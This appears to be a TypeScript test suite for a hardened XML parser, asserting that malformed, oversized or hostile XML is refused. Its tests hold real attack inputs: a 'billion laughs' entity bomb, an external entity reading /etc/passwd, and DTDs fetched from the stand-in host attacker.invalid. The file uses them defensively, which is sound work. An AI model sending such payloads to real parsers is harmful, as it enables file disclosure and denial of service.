import { test } from 'node:test';
import assert from 'node:assert/strict';
import { XmlParseError } from './errors.ts';
import { attribute, childElements, firstChild, ownText, parseXml, parseXmlText, resolveQNameValue, type XmlElement } from './safe-xml.ts';
import { escapeXmlAttribute, escapeXmlText, XmlWriter } from './xml-writer.ts';
import { seededRandom } from './test-fixtures.ts';

function rejects(input: string | Buffer, code: string, limits?: Parameters<typeof parseXmlText>[1]): XmlParseError {
  try {
    if (typeof input === 'string') parseXmlText(input, limits);
    else parseXml(input, { limits });
  } catch (err) {
    assert.ok(err instanceof XmlParseError, `expected XmlParseError, got ${String(err)}`);
    assert.equal(err.code, code, err.message);
    assert.equal(err.faultCode, 'Sender');
    return err;
  }
  assert.fail(`input was accepted, expected ${code}`);
}

test('billion laughs: the DTD is refused and nothing expands', () => {
  const lol =
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">' +
    '<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">]><lolz>&lol2;</lolz>';
  rejects(lol, 'XML_DTD_FORBIDDEN');
});

test('external entity SYSTEM "file:///etc/passwd" is refused', () => {
  rejects('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><a>&xxe;</a>', 'XML_DTD_FORBIDDEN');
});

test('parameter entities and external DTD subsets are refused', () => {
  rejects('<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.invalid/x.dtd"> %p;]><a/>', 'XML_DTD_FORBIDDEN');
  rejects('<!DOCTYPE a SYSTEM "http://attacker.invalid/x.dtd"><a/>', 'XML_DTD_FORBIDDEN');
  rejects('<a><!ENTITY x "y"></a>', 'XML_DTD_FORBIDDEN');
});

test('an entity reference without a DTD is refused, never left as text', () => {
  const err = rejects('<a>&xxe;</a>', 'XML_ENTITY_FORBIDDEN');
  assert.equal(err.position?.line, 1);
  rejects('<a b="&foo;"/>', 'XML_ENTITY_FORBIDDEN');
});

test('the five predefined entities and character references are decoded', () => {
  const root = parseXmlText('<a t="&lt;&amp;&#65;&#x42;&quot;&apos;&#10;">&gt;&#x1F600;<![CDATA[<&amp;>]]></a>');
  assert.equal(attribute(root, 't'), `<&AB"'\n`);
  assert.equal(ownText(root), '>😀<&amp;>');
  rejects('<a>&#0;</a>', 'XML_MALFORMED');
  rejects('<a>&#xD800;</a>', 'XML_MALFORMED');
  rejects('<a>& b</a>', 'XML_MALFORMED');
});

test('well-formedness: one root, no trailing text, matching tags, quoted attributes', () => {
  rejects('<a/><b/>', 'XML_MALFORMED');
  rejects('<a/>junk', 'XML_MALFORMED');
  rejects('junk<a/>', 'XML_MALFORMED');
  rejects('<a><b></a></b>', 'XML_MALFORMED');
  rejects('<a x=1/>', 'XML_MALFORMED');
  rejects('<a x="1" x="2"/>', 'XML_MALFORMED');
  rejects('<a x="<"/>', 'XML_MALFORMED');
  rejects('<a>]]></a>', 'XML_MALFORMED');
  rejects('<a><!-- a -- b --></a>', 'XML_MALFORMED');
  rejects('<a/><?xml version="1.0"?>', 'XML_MALFORMED');
  rejects('', 'XML_MALFORMED');
  rejects('<a>', 'XML_MALFORMED');
  rejects('<a>\u0001</a>', 'XML_MALFORMED');
});

test('namespaces are resolved to URIs; prefixes do not matter', () => {
  const a = parseXmlText('<p:r xmlns:p="urn:x"><p:c q:att="1" xmlns:q="urn:y" plain="2"/></p:r>');
  const b = parseXmlText('<r xmlns="urn:x"><c xmlns:z="urn:y" z:att="1" plain="2"/></r>');
  for (const root of [a, b]) {
    assert.equal(root.ns, 'urn:x');
    const c = firstChild(root, 'urn:x', 'c') as XmlElement;
    assert.equal(attribute(c, 'att', 'urn:y'), '1');
    assert.equal(attribute(c, 'plain'), '2', 'unprefixed attributes are in no namespace');
  }
  assert.deepEqual(resolveQNameValue(a, 'p:Sender'), { ns: 'urn:x', local: 'Sender' });
  rejects('<p:r/>', 'XML_NAMESPACE');
  rejects('<r xmlns:p="urn:a" xmlns:q="urn:a" p:x="1" q:x="2"/>', 'XML_NAMESPACE');
  rejects('<r xmlns:p=""/>', 'XML_NAMESPACE');
});

test('encoding: invalid UTF-8 in a part declared UTF-8 is refused', () => {
  rejects(Buffer.from([0x3c, 0x61, 0x3e, 0xc3, 0x28, 0x3c, 0x2f, 0x61, 0x3e]), 'XML_ENCODING');
  // overlong encoding of '/'
  rejects(Buffer.from([0x3c, 0x61, 0x3e, 0xc0, 0xaf, 0x3c, 0x2f, 0x61, 0x3e]), 'XML_ENCODING');
  // truncated multi-byte sequence at the end
  rejects(Buffer.concat([Buffer.from('<a>x</a>'), Buffer.from([0xe2, 0x82])]), 'XML_ENCODING');
  assert.throws(() => parseXml(Buffer.from('<a>é</a>', 'latin1'), { charset: 'utf-8' }), (e: unknown) => e instanceof XmlParseError && e.code === 'XML_ENCODING');
  rejects(Buffer.from('<?xml version="1.0" encoding="EBCDIC-US"?><a/>'), 'XML_ENCODING');
});

test('encoding: UTF-16 with BOM, declared ISO-8859-1, and a UTF-8 BOM are read', () => {
  const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<a>é</a>', 'utf16le')]);
  assert.equal(ownText(parseXml(utf16).root), 'é');
  const latin1 = Buffer.concat([Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><a>'), Buffer.from([0xe9]), Buffer.from('</a>')]);
  assert.equal(ownText(parseXml(latin1).root), 'é');
  const bom = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('<a>é</a>')]);
  assert.equal(ownText(parseXml(bom).root), 'é');
});

test('limits: bytes, depth, attributes, elements', () => {
  const big = rejects(Buffer.from(`<a>${'x'.repeat(2000)}</a>`), 'XML_LIMIT_EXCEEDED', { maxBytes: 1000 });
  assert.equal(big.httpStatus, 413);
  rejects('<a>'.repeat(1_000_000), 'XML_LIMIT_EXCEEDED');
  rejects(`<a>${'<b>'.repeat(20)}${'</b>'.repeat(20)}</a>`, 'XML_LIMIT_EXCEEDED', { maxDepth: 10 });
  rejects(`<a ${Array.from({ length: 300 }, (_, i) => `a${i}="1"`).join(' ')}/>`, 'XML_LIMIT_EXCEEDED');
  rejects(`<a>${'<b/>'.repeat(100)}</a>`, 'XML_LIMIT_EXCEEDED', { maxElements: 50 });
  rejects(`<${'n'.repeat(1000)}/>`, 'XML_LIMIT_EXCEEDED');
});

test('a 16 MB text node parses in well under a second (no quadratic behaviour)', () => {
  const started = Date.now();
  const root = parseXmlText(`<a>${'QUJD'.repeat(4 * 1024 * 1024)}</a>`, { maxBytes: 17 * 1024 * 1024 });
  assert.equal(ownText(root).length, 16 * 1024 * 1024);
  assert.ok(Date.now() - started < 1500, `took ${Date.now() - started} ms`);
});

test('prototype-looking names are plain data', () => {
  const root = parseXmlText('<__proto__ constructor="x"><toString/></__proto__>');
  assert.equal(root.local, '__proto__');
  assert.equal(attribute(root, 'constructor'), 'x');
  assert.equal(childElements(root)[0]?.local, 'toString');
});

test('fuzz: mutated XML never escapes as anything but XmlParseError', () => {
  const base = '<?xml version="1.0"?><s:E xmlns:s="urn:s"><s:B a="1&amp;2">t&lt;<![CDATA[x]]><!--c--><?p i?></s:B></s:E>';
  const rnd = seededRandom(42);
  const alphabet = ['<', '>', '&', ';', '"', "'", '/', '!', '[', ']', '-', '?', ':', '=', ' ', 'x', '#', '\u0000', '\uFFFF', '\uD800'];
  for (let i = 0; i < 5000; i++) {
    const chars = [...base];
    const edits = 1 + Math.floor(rnd() * 4);
    for (let e = 0; e < edits; e++) {
      const at = Math.floor(rnd() * chars.length);
      const op = rnd();
      if (op < 0.33) chars.splice(at, 1);
      else if (op < 0.66) chars.splice(at, 0, alphabet[Math.floor(rnd() * alphabet.length)] as string);
      else chars.length = at;
    }
    try {
      parseXmlText(chars.join(''));
    } catch (err) {
      assert.ok(err instanceof XmlParseError, `iteration ${i}: ${String(err)}`);
    }
  }
});

test('XmlWriter escapes text and attributes and refuses characters XML cannot carry', () => {
  const xml = new XmlWriter().start('a', { v: `"<&>\t\n\r` }).text(`<&>]]>\r`).end().toString();
  const root = parseXmlText(xml);
  assert.equal(attribute(root, 'v'), '"<&>\t\n\r', 'character references survive attribute normalisation');
  assert.equal(ownText(root), '<&>]]>\r');
  assert.throws(() => escapeXmlText('\u0000'));
  assert.throws(() => escapeXmlAttribute('\uFFFF'));
  assert.throws(() => new XmlWriter().start('a b'));
});
